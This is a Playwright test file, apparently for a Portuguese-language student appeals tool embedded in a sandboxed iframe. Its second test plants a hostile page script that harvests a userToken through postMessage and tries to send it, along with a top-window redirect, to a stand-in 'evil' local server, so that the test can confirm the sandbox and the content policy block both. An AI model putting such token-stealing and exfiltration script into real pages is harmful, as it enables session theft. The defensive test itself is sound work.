import {createServer, type IncomingMessage, type Server} from 'node:http'
import type {AddressInfo} from 'node:net'
import {demo} from './account.ts'
import {expect, test} from './fixtures.ts'
import {startSeeded} from './seeded.ts'
import {openToday} from './student.ts'
import {lostConnection} from './watch.ts'

test('the appeals open from the menu with the student known, draft a text, and come again after a lost network', async ({
  page,
  context,
  expectOnConsole,
}) => {
  expectOnConsole(lostConnection)
  await openToday(page)
  const menu = page.getByRole('navigation', {name: 'Menu principal'})
  await menu.getByRole('link', {name: 'Recursos'}).click()
  await expect(page).toHaveURL(/\/recursos$/)
  await page.mouse.move(900, 500)
  await expect(page.getByRole('heading', {level: 1, name: 'Recursos'})).toBeVisible()
  const element = page.getByTitle('Recursos')
  const frame = page.frameLocator('iframe[title="Recursos"]')
  await expect(frame.getByRole('heading', {name: 'Olá, Estudante!'})).toBeVisible()
  await expect(element).toHaveAttribute('src', '/local-apps/appeals')
  await expect(element).toHaveAttribute('referrerpolicy', 'no-referrer')
  await expect(element).toHaveAttribute('sandbox', 'allow-scripts allow-forms allow-popups')

  await frame.getByLabel('Prova').selectOption({index: 1})
  await frame.getByLabel('Questão').fill('12')
  await frame.getByLabel('Fundamentação').fill('Duas alternativas respondem ao enunciado.')
  await frame.getByLabel('Referência, com edição e página').fill('Diretriz, 2025, p. 3')
  await frame.getByRole('button', {name: 'Montar o texto'}).click()
  await expect(frame.getByRole('status')).toContainText('Questão: 12\nPedido: Anulação da questão')
  expect(await frame.getByRole('status').innerText()).toContain('Questão: 12\nPedido: Anulação da questão\n')

  await menu.getByRole('link', {name: 'Perfil'}).click()
  await expect(page).toHaveURL(/\/perfil/)
  // The address changes before the screen does.
  await expect(element).toHaveCount(0)
  await context.setOffline(true)
  await menu.getByRole('link', {name: 'Recursos'}).click()
  await page.mouse.move(900, 500)
  await expect(page.getByText('Os recursos abrem assim que a conexão voltar.')).toBeVisible()
  await context.setOffline(false)
  await expect(frame.getByRole('heading', {name: 'Olá, Estudante!'})).toBeVisible()
})

type Site = {readonly origin: string; readonly asked: IncomingMessage[]; readonly server: Server}

/** A site of somebody else: every path has the same page. */
async function site(script: string, body = ''): Promise<Site> {
  const asked: IncomingMessage[] = []
  const server = createServer((request, response) => {
    asked.push(request)
    response.setHeader('content-type', 'text/html; charset=utf-8')
    response.end(`<!doctype html><title>app</title><p id="got"></p>${body}<script>${script}</script>`)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  // A server that listens at a port has an address of that kind.
  const {port} = server.address() as AddressInfo
  return {origin: `http://127.0.0.1:${port}`, asked, server}
}

/** Asks whoever stands around it, and writes down what it is answered. */
const asking = `addEventListener('message', function (event) {
  document.querySelector('#got').textContent += JSON.stringify(event.data) + event.origin;
});
[parent, top].forEach(function (other) { other.postMessage({type: 'aristo.ready'}, '*'); });`

test('a hostile page in the frame gets no token, leads nowhere and takes nothing along', async ({
  page,
  watch,
  expectOnConsole,
}) => {
  // Chromium says on the console what the sandbox and the content policy refuse; the policy's word is reported too.
  expectOnConsole(/Unsafe attempt to initiate navigation|frame-src|Framing 'http|favicon/)
  const evil = await site(asking)
  const app = await site(
    `${asking}
    addEventListener('click', function (event) {
      if (event.target.id === 'top') { try { top.location = '${evil.origin}/top'; } catch (error) { event.target.textContent = 'refused'; } }
      if (event.target.id === 'away') location = '${evil.origin}/away?' + document.querySelector('#got').textContent;
    });`,
    `<iframe title="inner" src="${evil.origin}/inner"></iframe><button id="top">top</button><button id="away">away</button>`,
  )
  const server = await startSeeded({FRAME_APPEALS_URL: `${app.origin}/app`})
  for (const {origin} of [server, evil, app]) watch.ownOrigin(origin)
  await page.goto(`${server.origin}/?x=segredo`)
  await page.getByLabel('E-mail').fill(demo.email)
  await page.getByLabel('Senha', {exact: true}).fill(demo.password)
  await page.getByRole('button', {name: 'Entrar'}).click()
  await expect(page).toHaveURL(/\/agenda/)
  await page.goto(`${server.origin}/recursos`)

  const frame = page.frameLocator('iframe[title="Recursos"]')
  await expect(frame.locator('#got')).toContainText(`"userToken"`)
  await expect(frame.locator('#got')).toContainText(`}${server.origin}`)
  await expect(page.getByTitle('Recursos')).toHaveAttribute('src', `${app.origin}/app`)
  expect(app.asked.map(({url, headers}) => [url, headers.referer])).toContainEqual(['/app', undefined])
  // The page inside of the page asked at the same time, and before the token was renewed for the other.
  await expect(frame.frameLocator('iframe').locator('#got')).toBeEmpty()

  await frame.getByRole('button', {name: 'top'}).click()
  await expect(frame.getByRole('button', {name: 'refused'})).toBeVisible()
  await expect(page).toHaveURL(`${server.origin}/recursos`)
  const refused = page.waitForRequest(/csp-report/)
  await frame.getByRole('button', {name: 'away'}).click()
  expect((await refused).postData()).toContain('frame-src')
  expect(evil.asked.map(({url}) => url).filter((url) => url !== '/inner' && url !== '/favicon.ico')).toEqual([])
  await expect(page.getByRole('heading', {level: 1, name: 'Recursos'})).toBeVisible()

  await page.goto('about:blank')
  await server.dispose()
  for (const each of [app, evil]) each.server.close()
})
